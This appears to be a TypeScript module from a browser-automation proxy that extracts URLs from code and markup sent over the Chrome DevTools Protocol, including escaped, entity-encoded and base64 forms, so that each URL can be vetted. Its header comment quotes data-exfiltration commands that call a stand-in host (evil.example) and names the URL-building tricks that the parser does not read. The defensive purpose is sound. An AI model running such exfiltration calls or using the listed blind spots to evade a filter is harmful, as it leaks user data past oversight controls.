// The URLs written in code and markup a remote browser is told to run (Chrome DevTools Protocol:
// `Runtime.evaluate`, `Runtime.callFunctionOn`, `DOM.setOuterHTML`, `Page.setDocumentContent`, …),
// each then judged as the GET of that URL (`cdpLoadsOf`, describe/tunnel-sql.ts). Twentieth pass,
// left open by the nineteenth: `Runtime.evaluate {expression: "fetch('https://evil.example/?d=…')"}`
// and `DOM.setOuterHTML {outerHTML: "<img src=//evil.example/?d=…>"}` were relayed undecided, and
// the browser carried the data to another site from outside Airlock.
//
// Read: absolute URLs (http, https, ws, wss; slashes written as `\/` or backslashes; a tab or line
// break inside, which URL parsers drop), scheme-relative ones after a quote, `=`, `(` or `,`
// whose host holds a dot or is an address (`src=//evil.example/x`, `url(//1.2.3.4/x)`; an XPath
// `//div` is none), once JavaScript's escapes (`\x68`, `\u0068`, `\u{68}`) and HTML's character
// references are undone, and inside string literals written in base64 (`atob('aHR0cHM6…')`). A
// scheme with no host after it (`'https://' + host`) is returned as written: it does not parse, so
// the command is refused (its host is made at run time); a host assigned to `location.host` or a
// URL's `hostname` is a load of it. Not read (docs/policies.md says so): a URL
// assembled at run time from pieces none of which is one (`'ht' + 'tps:/' + '/evil.example'`,
// `String.fromCharCode(…)`), and what code sends to the page's own site or an allowed one (a
// `fetch(url, {method: 'POST', body})` is judged as the GET of its URL).
import { Parser } from 'htmlparser2';

/** URLs returned per text at most: past it the caller refuses (a text naming more is not decided piecemeal). */
export const MAX_CODE_URLS = 64;
/** Base64 literals decoded per text at most. */
const MAX_BASE64 = 64;

// After the scheme, any run of slashes or backslashes (none: `https:` alone is a protocol name, as
// in `location.protocol === 'https:'`), then what a URL in running text holds.
const absoluteUrl = /\b(?:https?|wss?):[\\/]+[^\s"'<>`{}|\\^\u0000-\u001f\u007f]*/gi;
// `//host…` after a character that starts a value in code, markup or CSS.
const schemeRelative = /["'`=(,]\s*[\\/]{2}([^\s"'<>`{}|\\^/?#\u0000-\u001f\u007f]+)([^\s"'<>`{}|\\^\u0000-\u001f\u007f]*)/g;
// A host given to a URL object or `location` by assignment (`location.host = 'evil.example'`,
// `u.hostname = "evil.example"`): the page then goes (or the URL points) there.
const hostAssigned = /\.(?:host|hostname)\s*=\s*["'`]([^"'`\s/\\?#]+)["'`]/g;
const base64Literal = /["'`]([A-Za-z0-9+/_-]{12,}={0,2})["'`]/g;

const jsLetters: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', v: '\v', 0: '\0' };

/** The hex number s holds from `from` to `to`, or -1. */
function hexAt(s: string, from: number, to: number): number {
  return to <= s.length && /^[0-9a-fA-F]+$/.test(s.slice(from, to)) ? parseInt(s.slice(from, to), 16) : -1;
}

/**
 * JavaScript's string escapes undone (an unknown escape is its character, a line continuation
 * nothing, as JavaScript reads them). A scan, not a replace with a callback per escape (as
 * lib/text.ts jsonUnescaped): 200,000 escapes cost a second of callbacks.
 */
function jsUnescaped(s: string): string {
  if (!s.includes('\\')) return s;
  const out: string[] = [];
  let from = 0;
  for (let i = s.indexOf('\\'); i >= 0 && i + 1 < s.length; i = s.indexOf('\\', i)) {
    const c = s[i + 1]!;
    let one: string;
    let end = i + 2;
    if (c === 'x' && hexAt(s, i + 2, i + 4) >= 0) {
      one = String.fromCharCode(hexAt(s, i + 2, i + 4));
      end = i + 4;
    } else if (c === 'u' && s[i + 2] === '{' && hexAt(s, i + 3, i + 3 + s.slice(i + 3, i + 10).indexOf('}')) >= 0) {
      // (`}` looked for within the six digits a code point has: a search to the end would be quadratic)
      const close = i + 3 + s.slice(i + 3, i + 10).indexOf('}');
      const code = hexAt(s, i + 3, close);
      one = code <= 0x10ffff ? String.fromCodePoint(code) : '';
      end = close + 1;
    } else if (c === 'u' && hexAt(s, i + 2, i + 6) >= 0) {
      one = String.fromCharCode(hexAt(s, i + 2, i + 6));
      end = i + 6;
    } else one = c === '\n' || c === '\r' ? '' : (jsLetters[c] ?? c);
    out.push(s.slice(from, i), one);
    from = i = end;
  }
  out.push(s.slice(from));
  return out.join('');
}

/** HTML character references decoded as a browser decodes them in markup it is given. */
function referencesDecoded(s: string): string {
  if (!s.includes('&')) return s;
  const out: string[] = [];
  const p = new Parser({ ontext: (text) => void out.push(text) }, { decodeEntities: true });
  p.write(s.replaceAll('<', '\u0000')); // text only: no tag can start (NUL ends a URL as `<` does)
  p.end();
  return out.join('');
}

/** Whether a scheme-relative host is one: a name with a dot or an IPv6 literal (not `//div` in an XPath). */
function relativeHost(host: string): boolean {
  const h = host.replace(/^.*@/, '');
  return h.startsWith('[') || /[^.]\.[^.]/.test(h);
}

function urlsIn(text: string, out: Set<string>): void {
  for (const m of text.matchAll(absoluteUrl)) {
    if (out.size > MAX_CODE_URLS) return;
    out.add(m[0]);
  }
  for (const m of text.matchAll(hostAssigned)) {
    if (out.size > MAX_CODE_URLS) return;
    out.add(`https://${m[1]}/`);
  }
  for (const m of text.matchAll(schemeRelative)) {
    if (out.size > MAX_CODE_URLS) return;
    if (relativeHost(m[1]!)) out.add(`https://${m[1]}${m[2]}`);
  }
}

/**
 * The URLs code or markup names, as written (a scheme's `ws` kept: the caller judges it as its
 * http twin), at most MAX_CODE_URLS + 1 (the caller refuses a text naming more).
 */
export function codeUrls(text: string): string[] {
  const out = new Set<string>();
  // The readings a browser's parsers give the text: as written, escapes undone, then references
  // decoded; tabs and line breaks dropped (URL parsers drop them inside a URL).
  const escaped = jsUnescaped(text);
  const views = new Set([text, escaped, referencesDecoded(escaped)]);
  for (const v of [...views]) views.add(v.replace(/[\t\n\r]/g, ''));
  for (const v of views) urlsIn(v, out);
  let decoded = 0;
  for (const m of escaped.matchAll(base64Literal)) {
    if (++decoded > MAX_BASE64 || out.size > MAX_CODE_URLS) break;
    const plain = Buffer.from(m[1]!.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('latin1');
    if (/(?:https?|wss?):|[\\/]{2}/i.test(plain)) urlsIn(`"${plain}`, out);
  }
  return [...out];
}

/**
 * Markup as the browser's parser reads it: each attribute (name, decoded value) and the text of
 * the whole (attribute values, text, inline scripts and styles), for codeUrls.
 */
export function markupParts(html: string): { attributes: Array<[string, string]>; text: string } {
  const attributes: Array<[string, string]> = [];
  const texts: string[] = [];
  const p = new Parser({
    onattribute: (name, value) => {
      if (attributes.length < 1000) attributes.push([name, value]);
      texts.push(`"${value}"`);
    },
    ontext: (text) => void texts.push(text),
  }, { decodeEntities: true, lowerCaseAttributeNames: true });
  p.write(html);
  p.end();
  return { attributes, text: texts.join('\n') };
}
